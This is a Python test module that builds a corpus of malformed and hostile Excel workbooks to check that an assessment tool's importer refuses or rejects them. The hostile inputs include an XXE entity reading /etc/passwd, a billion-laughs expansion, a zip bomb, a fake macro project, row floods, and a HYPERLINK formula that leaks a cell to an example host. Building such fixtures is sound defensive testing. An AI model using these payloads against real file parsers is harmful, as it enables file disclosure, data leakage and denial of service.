"""The corpus of bad matrix workbooks, built at test time from a good export (nothing large committed).

Each :class:`BadWorkbook` names a file, how it is built from a good matrix of the mini framework,
whether the whole workbook must be refused (``refused``), only rows rejected (``rejected``) or the
workbook read in full (``accepted``: odd but harmless, as spreadsheet programs write them), and a
fragment the message must contain. Build them all into a folder to try them by hand::

    CYBERASSESS_HOME=... python -m tests.corpus.xlsx.bad_workbooks OUTDIR
"""

from __future__ import annotations

import io
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import openpyxl

Outcome = Literal["refused", "rejected", "accepted"]


@dataclass(frozen=True)
class BadWorkbook:
    name: str
    build: Callable[[Path, Path], bytes]  # (good matrix of the base assessment, blank of another framework)
    outcome: Outcome
    message: str


# ------------------------------------------------------------------ helpers
def rezip(data: bytes, replace: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """A copy of the zip ``data`` with members replaced (``None`` removes) or added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    dst.writestr(info.filename, replace[info.filename])  # type: ignore[arg-type]
                continue
            dst.writestr(info, src.read(info.filename))
        for name, content in add.items():
            dst.writestr(name, content)
    return out.getvalue()


def sheet_member(data: bytes, marker: str = ">D1.1.1<") -> str:
    """The worksheet part holding ``marker`` (by default the first dimension sheet)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet") and marker in archive.read(name).decode("utf-8"):
                return name
    raise LookupError(marker)


def edit(good: Path, change: Callable[[Any], None]) -> bytes:
    """Open ``good`` with openpyxl (as a person's spreadsheet program would), change it, save."""
    workbook = openpyxl.load_workbook(good)
    change(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def dimension_sheet(workbook: Any, number: int = 1) -> Any:
    return next(ws for ws in workbook.worksheets if ws.title.startswith(f"D{number} "))


def metadata_sheet(workbook: Any) -> Any:
    return next(ws for ws in workbook.worksheets if ws["A1"].value == "cyberassess-matrix")


def set_metadata(workbook: Any, key: str, value: object) -> None:
    ws = metadata_sheet(workbook)
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == key)
    row[1].value = value


def indicator_rows(ws: Any) -> list[int]:
    return [r[0].row for r in ws.iter_rows(min_row=3) if r[0].value and str(r[0].value).count(".") == 2]


def first_indicator_row(ws: Any) -> int:
    return indicator_rows(ws)[0]


# ------------------------------------------------------------------ builders
def _many_rows(good: Path, keep_dimension: bool) -> bytes:
    data = good.read_bytes()
    member = sheet_member(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(member).decode("utf-8")
    start = 1000
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>D1.1.1</t></is></c><c r="C{n}"><v>3</v></c></row>'
        for n in range(start, start + 100_000)
    )
    xml = xml.replace("</sheetData>", rows + "</sheetData>")
    if keep_dimension:
        xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="A1:J{start + 99_999}"/>', xml)
    else:
        xml = re.sub(r'<dimension ref="[^"]*"/>', "", xml)
    return rezip(data, {member: xml.encode("utf-8")})


def _xxe(good: Path) -> bytes:
    data = good.read_bytes()
    member = sheet_member(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(member).decode("utf-8")
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + doctype, xml, count=1)
    xml = xml.replace(">D1.1.1<", ">&xxe;<", 1)
    return rezip(data, {member: xml.encode("utf-8")})


def _billion_laughs(good: Path) -> bytes:
    data = good.read_bytes()
    member = sheet_member(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(member).decode("utf-8")
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    )
    xml = re.sub(
        r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + f"<!DOCTYPE worksheet [{entities}]>", xml, count=1
    )
    xml = xml.replace(">D1.1.1<", ">&i;<", 1)
    return rezip(data, {member: xml.encode("utf-8")})


def _sheet_xml(good: Path, change: Callable[[str], str]) -> bytes:
    data = good.read_bytes()
    member = sheet_member(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(member).decode("utf-8")
    return rezip(data, {member: change(xml).encode("utf-8")})


def _all_sheets_xml(good: Path, change: Callable[[str], str]) -> bytes:
    """``change`` applied to every worksheet part."""
    data = good.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
    return rezip(data, {name: change(xml).encode("utf-8") for name, xml in parts.items()})


def _declare_whole_sheet(xml: str) -> str:
    """A ``<dimension>`` claiming every row Excel has (a whole column was formatted), as LibreOffice writes it."""
    return re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:J1048576"/>', xml)


def _styled_last_row(xml: str) -> str:
    """The real rows, then one empty formatted row at the very bottom of the sheet (row 1,048,576)."""
    return _declare_whole_sheet(xml).replace(
        "</sheetData>", '<row r="1048576" customFormat="1" ht="15"><c r="J1048576" s="0"/></row></sheetData>'
    )


def _garbage_signature(workbook: Any) -> None:
    """Signature rows that hold no signature: the import must say so, not call the matrix signed."""
    ws = metadata_sheet(workbook)
    row = ws.max_row + 1
    for key, value in (
        ("signature_algorithm", "rsa-pss-sha256"),
        ("signature", "AAAA"),
        ("signer_certificate", "AAAA"),
    ):
        ws.cell(row, 1).value, ws.cell(row, 2).value = key, value
        row += 1


def _not_a_number(xml: str) -> str:
    """A number cell whose value is not a number (a damaged or hand-made file)."""
    return re.sub(r'<c r="C4"[^>]*>.*?</c>', '<c r="C4"><v>three</v></c>', xml, count=1)


def _macro_content(good: Path) -> bytes:
    data = good.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode("utf-8")
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return rezip(data, {"[Content_Types].xml": types.encode("utf-8")}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def _zip_bomb(good: Path) -> bytes:
    return rezip(good.read_bytes(), add={"xl/media/padding.xml": b"<a>" + b" " * (8 * 2**20) + b"</a>"})


def _swap_columns(workbook: Any) -> None:
    ws = dimension_sheet(workbook)
    for row in ws.iter_rows(min_row=2):
        row[2].value, row[3].value = row[3].value, row[2].value


def _levels_out_of_range(workbook: Any) -> None:
    ws = dimension_sheet(workbook)
    for row, bad in zip(indicator_rows(ws), (7, "0", 2.5), strict=False):
        ws.cell(row, 3).value = bad
    other = dimension_sheet(workbook, 2)
    other.cell(indicator_rows(other)[0], 3).value = "9 - Super"
    ws.cell(3, 3).value = "3 - Established"  # on a section heading row


def _formulas(workbook: Any) -> None:
    ws = dimension_sheet(workbook)
    first = first_indicator_row(ws)
    ws.cell(first, 3).value = "=1+2"
    ws.cell(first + 1, 4).value = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _oversized(good: Path) -> bytes:
    """A justification of 40,000 characters (written as raw XML: openpyxl would cut it to Excel's limit)."""
    data = good.read_bytes()
    member = sheet_member(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(member).decode("utf-8")
    xml, count = re.subn(r'(<c r="D4"[^>]*><is><t>)[^<]*(</t>)', lambda m: m.group(1) + "x" * 40_000 + m.group(2), xml)
    assert count == 1
    return rezip(data, {member: xml.encode("utf-8")})


def _unknown_indicator(workbook: Any) -> None:
    ws = dimension_sheet(workbook)
    ws.cell(first_indicator_row(ws), 1).value = "D9.9.9"


def _duplicate_indicator(workbook: Any) -> None:
    ws = dimension_sheet(workbook)
    first = first_indicator_row(ws)
    target = ws.max_row + 1
    for column in range(1, 11):
        ws.cell(target, column).value = ws.cell(first, column).value
    ws.cell(target, 3).value = 5


def _bad_confidence(workbook: Any) -> None:
    ws = dimension_sheet(workbook)
    ws.cell(first_indicator_row(ws), 5).value = "very sure"


def _remove_sheet(workbook: Any) -> None:
    workbook.remove(dimension_sheet(workbook, 2))


def _plain_workbook(_good: Path) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Indicator"
    workbook.active["A2"] = "D1.1.1"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


CASES: tuple[BadWorkbook, ...] = (
    BadWorkbook("not-a-zip.xlsx", lambda g, b: b"Indicator;Stage\nD1.1.1;3\n", "refused", "not a zip archive"),
    BadWorkbook("empty.xlsx", lambda g, b: b"", "refused", "empty"),
    BadWorkbook("truncated.xlsx", lambda g, b: g.read_bytes()[: g.stat().st_size // 2], "refused", "truncated"),
    BadWorkbook("macros.xlsm", lambda g, b: g.read_bytes(), "refused", "macro-enabled"),
    BadWorkbook("macro-content.xlsx", lambda g, b: _macro_content(g), "refused", "macros"),
    BadWorkbook("old-format.xls", lambda g, b: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "refused", "97-2003"),
    BadWorkbook("encrypted.xlsx", lambda g, b: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "refused", "password"),
    BadWorkbook("wrong-framework.xlsx", lambda g, b: b.read_bytes(), "refused", "framework 'cybercrime-capacity'"),
    BadWorkbook(
        "wrong-version.xlsx",
        lambda g, b: edit(g, lambda wb: set_metadata(wb, "framework_version", "9.9")),
        "refused",
        "version 9.9",
    ),
    BadWorkbook(
        "newer-format.xlsx",
        lambda g, b: edit(g, lambda wb: metadata_sheet(wb).cell(1, 2, 99)),
        "refused",
        "newer CyberAssess",
    ),
    BadWorkbook("shuffled-columns.xlsx", lambda g, b: edit(g, _swap_columns), "refused", "columns of sheet"),
    BadWorkbook("missing-sheet.xlsx", lambda g, b: edit(g, _remove_sheet), "refused", "is missing"),
    BadWorkbook("not-a-matrix.xlsx", lambda g, b: _plain_workbook(g), "refused", "not a CyberAssess matrix"),
    BadWorkbook("rows-100k.xlsx", lambda g, b: _many_rows(g, True), "refused", "more than 5,000 rows"),
    BadWorkbook("rows-100k-undeclared.xlsx", lambda g, b: _many_rows(g, False), "refused", "more than 5,000 rows"),
    BadWorkbook(
        "declared-1048576-rows.xlsx", lambda g, b: _all_sheets_xml(g, _declare_whole_sheet), "accepted", "unchanged:"
    ),
    BadWorkbook("styled-row-1048576.xlsx", lambda g, b: _all_sheets_xml(g, _styled_last_row), "accepted", "unchanged:"),
    BadWorkbook(
        "signature-garbage.xlsx", lambda g, b: edit(g, _garbage_signature), "accepted", "signature does not match"
    ),
    BadWorkbook("xxe.xlsx", lambda g, b: _xxe(g), "refused", "external-entity"),
    BadWorkbook("billion-laughs.xlsx", lambda g, b: _billion_laughs(g), "refused", "declares a document type"),
    BadWorkbook("zip-bomb.xlsx", lambda g, b: _zip_bomb(g), "refused", "zip bomb"),
    BadWorkbook(
        "malformed-sheet.xlsx", lambda g, b: _sheet_xml(g, lambda x: x[: len(x) // 2]), "refused", "cannot be read"
    ),
    BadWorkbook("not-a-number.xlsx", lambda g, b: _sheet_xml(g, _not_a_number), "refused", "cannot be read"),
    BadWorkbook("levels-out-of-range.xlsx", lambda g, b: edit(g, _levels_out_of_range), "rejected", "out of range"),
    BadWorkbook("formulas.xlsx", lambda g, b: edit(g, _formulas), "rejected", "formulas are never evaluated"),
    BadWorkbook("oversized-cell.xlsx", lambda g, b: _oversized(g), "rejected", "longer than 32,767"),
    BadWorkbook("unknown-indicator.xlsx", lambda g, b: edit(g, _unknown_indicator), "rejected", "not an indicator"),
    BadWorkbook("duplicate-indicator.xlsx", lambda g, b: edit(g, _duplicate_indicator), "rejected", "appears twice"),
    BadWorkbook("bad-confidence.xlsx", lambda g, b: edit(g, _bad_confidence), "rejected", "not a confidence"),
)


def build(case: BadWorkbook, good: Path, other_blank: Path, folder: Path) -> Path:
    target = folder / case.name
    target.write_bytes(case.build(good, other_blank))
    return target


def make_blank(folder: Path) -> Path:
    """A blank matrix of the built-in framework (the "wrong framework" for the mini assessment)."""
    from cyberassess.framework import builtin_framework
    from cyberassess.matrix import export_blank

    return export_blank(builtin_framework(), folder / "builtin-blank.xlsx")


def make_base(folder: Path) -> tuple[Path, Path]:
    """A mini assessment with a few answers, and its matrix."""
    from cyberassess.framework import get_framework
    from cyberassess.matrix import export_matrix
    from cyberassess.store import Assessment

    path = folder / "base.cyberassess"
    with Assessment.create(
        path, country="Corpusland", mission="M", assessors=["Ada"], framework=get_framework("mini")
    ) as doc:
        for n, indicator in enumerate(doc.framework.indicator_ids()):
            doc.set_answer(indicator, n % 5 + 1, justification=f"note {n}", confidence="medium")
        good = export_matrix(doc, folder / "good.xlsx")
    return path, good


def main(argv: list[str]) -> int:
    folder = Path(argv[0] if argv else "bad-workbooks")
    folder.mkdir(parents=True, exist_ok=True)
    _base, good = make_base(folder)
    blank = make_blank(folder)
    for case in CASES:
        print(build(case, good, blank, folder))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
